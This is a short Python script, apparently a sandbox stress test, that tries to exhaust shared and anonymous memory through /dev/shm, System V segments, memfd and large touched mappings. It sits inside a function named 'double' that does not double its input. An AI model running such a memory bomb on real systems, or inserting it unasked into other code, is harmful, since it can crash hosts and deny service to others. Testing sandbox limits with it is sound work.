"""Fills shared memory by all its names: /dev/shm, memfd, System V, and anonymous mappings."""

# %% double
import ctypes
import mmap
import os

libc = ctypes.CDLL(None)
kept = []


def double(x):
    try:
        with open("/dev/shm/bomb", "wb") as file:
            for _ in range(200):
                file.write(b"x" * 2**24)
    except OSError as error:
        print(error)
    for number in range(40):
        libc.shmget(0x1000 + number, 2**28, 0o1600)
    for _ in range(64):
        kept.append(mmap.mmap(-1, 2**27))
        for place in range(0, 2**27, 4096):
            kept[-1][place] = 1
    os.memfd_create("bomb")
